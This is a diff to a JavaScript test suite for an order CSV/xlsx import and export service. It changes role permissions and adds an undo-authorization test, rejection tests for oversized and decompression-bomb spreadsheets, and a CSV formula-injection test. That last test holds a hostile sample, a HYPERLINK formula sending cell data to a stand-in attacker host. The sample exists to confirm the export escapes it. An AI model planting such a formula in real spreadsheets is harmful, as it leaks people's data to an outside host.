@@ -80,20 +80,49 @@ function assertRefused(response, status, code) {
   assert.ok(response.json.error.message_en.length > 10, 'an English sentence');
 }
 
-test('only admins import (no other role may create orders), each refused with the reason; a signed-out caller cannot export', async () => {
-  // 周健 is a manager: the rulebook lets managers create no orders, so the gate refuses up front
-  // with that reason rather than admitting the file and refusing every row.
-  const manager = await signIn('13906660088');
-  for (const token of [sales, manager]) {
-    const refused = await upload(fixture('orders_gbk.csv'), { token });
-    assertRefused(refused, 403, 'forbidden');
-    assert.match(refused.json.error.message, /只有管理员可以导入/);
-    assert.match(refused.json.error.message_en, /Only admins import/);
-    assertRefused(await upload(fixture('orders_gbk.csv'), { token, dryRun: false }), 403, 'forbidden');
-  }
-  assert.equal((await exportCsv(manager)).subarray(0, 3).toString('hex'), 'efbbbf', 'managers export');
+test('admins and managers import; other roles are refused with the reason; a signed-out caller cannot export', async () => {
+  const refused = await upload(fixture('orders_gbk.csv'), { token: sales });
+  assertRefused(refused, 403, 'forbidden');
+  assert.match(refused.json.error.message, /只有管理员和经理可以导入/);
+  assert.match(refused.json.error.message_en, /Only admins and managers import/);
+  assertRefused(await upload(fixture('orders_gbk.csv'), { token: sales, dryRun: false }), 403, 'forbidden');
   assert.equal((await worker.call('/api/export.csv')).status, 401);
   assertApiError(await upload(fixture('orders_gbk.csv'), { mode: 'sometimes' }), 400, 'bad_query');
+});
+
+test('a manager imports: the rows are created though a manager creates no orders on a phone, the history names the manager, and only the manager or an admin undoes it', async () => {
+  // 周健 is a manager. On a phone a manager changes nothing a stage does not give them; an
+  // import is the desk task the issue gives managers, and its rows need an order's whole
+  // authority (any stage, any owner), so they are applied with it.
+  const manager = await signIn('13906660088');
+  const header = '订单号,客户,联系人,电话,业务员,阶段\n';
+  const body = Buffer.from(`${header}FX-MGR-001,经理导入甲公司,赵一,13900000501,王芳,生产/采购\nFX-MGR-002,经理导入乙公司,钱二,13900000502,,需求确认\n`);
+  const dry = await upload(body, { token: manager });
+  assert.equal(dry.status, 200, dry.text);
+  assert.deepEqual(dry.json.totals, { create: 2, update: 0, unchanged: 0, error: 0 }, dry.text);
+  const done = await upload(body, { token: manager, dryRun: false });
+  assert.equal(done.status, 200, done.text);
+  assert.ok(done.json.batch_id);
+
+  const pulled = await pullAll(sales);
+  const first = pulled.get('FX-MGR-001');
+  assert.equal(first.stage, 'production');
+  assert.equal(first.owner.name, '王芳');
+  const created = first.history[0];
+  assert.equal(created.actor.name, '周健', 'the history names the manager who imported');
+  assert.equal(pulled.get('FX-MGR-002').owner.name, '周健', 'a row with no owner belongs to the importer');
+  assert.equal((await exportCsv(manager)).subarray(0, 3).toString('hex'), 'efbbbf', 'managers export');
+
+  const undo = (token) => worker.call(`/api/admin/import/${done.json.batch_id}/undo`, { method: 'POST', headers: bearer(token) });
+  const adminsBatch = await upload(Buffer.from(`${header}FX-MGR-003,管理员导入公司,孙三,13900000503,,需求确认\n`), { dryRun: false });
+  assert.equal(adminsBatch.status, 200, adminsBatch.text);
+  const notTheirs = await worker.call(`/api/admin/import/${adminsBatch.json.batch_id}/undo`, { method: 'POST', headers: bearer(manager) });
+  assertRefused(notTheirs, 403, 'forbidden');
+  assert.match(notTheirs.json.error.message, /只能撤销自己导入的批次/);
+  assertRefused(await undo(sales), 403, 'forbidden');
+  const undone = await undo(manager);
+  assert.equal(undone.status, 200, undone.text);
+  assert.deepEqual(undone.json, { batch_id: done.json.batch_id, cancelled: 2, restored: 0 });
 });
 
 test('a GBK CSV: the dry run proposes the mapping and changes nothing; the commit creates every row once; the phones pull them; twice changes nothing', async () => {
@@ -293,6 +322,10 @@ test('files that cannot be imported as a whole: a clear 4xx each', async () => {
     ['old_format.xls', 422, 'import_old_xls'],
     ['merged_header.xlsx', 422, 'import_merged_header'],
     ['wide_200_columns.csv', 422, 'import_too_many_columns'],
+    // One stray value at XFD1048576: once a 17-billion-cell rectangle that took the worker down.
+    ['stray_far_cell.xlsx', 422, 'import_too_many_columns'],
+    // About 100 KB that inflate to 101 MB.
+    ['inflates_too_much.xlsx', 422, 'import_too_large_unpacked'],
   ];
   for (const [name, status, code] of cases) {
     const response = await upload(fixture(name));
@@ -302,6 +335,10 @@ test('files that cannot be imported as a whole: a clear 4xx each', async () => {
   assert.match(old.json.error.message, /\.xlsx/);
   const merged = await upload(fixture('merged_header.xlsx'));
   assert.match(merged.json.error.message, /B1:C1/);
+  assert.match((await upload(fixture('stray_far_cell.xlsx'))).json.error.message, /16384 列/);
+  assert.match((await upload(fixture('inflates_too_much.xlsx'))).json.error.message, /解压后超过 100 MB/);
+  const after = await upload(fixture('orders_gbk.csv'));
+  assert.equal(after.status, 200, 'the worker still imports after those files');
 
   // A 10 MB CSV on one line: no header, said so, quickly.
   assertRefused(await upload(Buffer.alloc(10 * 1024 * 1024 - 1, 'x')), 422, 'import_no_header');
@@ -368,6 +405,34 @@ test('export: every order as CSV with a BOM and as xlsx; both import back unchan
   const xlsxBack = await upload(xlsx);
   assert.equal(xlsxBack.status, 200, xlsxBack.text);
   assert.deepEqual(xlsxBack.json.totals, { create: 0, update: 0, unchanged: pulled.size, error: 0 });
+});
+
+test('text that Excel would run as a formula is exported as text in the CSV, and the file still imports back unchanged', async () => {
+  // A company name, a contact or a customer's after-sales text is anyone's typing: opened from a
+  // CSV, a cell starting with = + - @ would run in finance's Excel (a link that sends the sheet
+  // away, or worse). Each is written with a leading apostrophe, which the importer takes off.
+  const header = '订单号,客户,联系人,电话,备注\n';
+  const formula = '=HYPERLINK("http://evil.example/?d="&A2,"查看合同")';
+  const body = Buffer.from(`${header}FX-CSVI-001,"${formula.replaceAll('"', '""')}",+86 联系人,13900000601,@SUM(1+1)\nFX-CSVI-002,'引号开头公司,-李四,13900000602,\n`);
+  const done = await upload(body, { dryRun: false });
+  assert.equal(done.status, 200, done.text);
+  assert.deepEqual(done.json.totals, { create: 2, update: 0, unchanged: 0, error: 0 }, done.text);
+  const stored = await pullAll(sales);
+  assert.equal(stored.get('FX-CSVI-001').customer.company, formula, 'stored as typed');
+  assert.equal(stored.get('FX-CSVI-002').customer.company, "'引号开头公司", 'an apostrophe someone typed stays');
+
+  const csv = (await exportCsv(sales)).toString('utf8');
+  const row = csv.split('\n').find((line) => line.startsWith('FX-CSVI-001'));
+  assert.ok(row.includes(`"'${formula.replaceAll('"', '""')}"`), row);
+  assert.ok(row.includes(",'+86 联系人,"), row);
+  assert.ok(row.includes(",'@SUM(1+1)"), row);
+  for (const cell of csv.split(/[\n,]/)) assert.doesNotMatch(cell, /^"?[=+@-]/, `no cell starts a formula: ${cell}`);
+
+  const back = await upload(Buffer.from(csv.replace(/^\uFEFF/, '')));
+  assert.equal(back.status, 200, back.text);
+  for (const number of ['FX-CSVI-001', 'FX-CSVI-002']) {
+    assert.equal(back.json.rows.find((r) => r.number === number).action, 'unchanged', number);
+  }
 });
 
 test('export with the board filter: only the orders the board would show, every one of them', async () => {
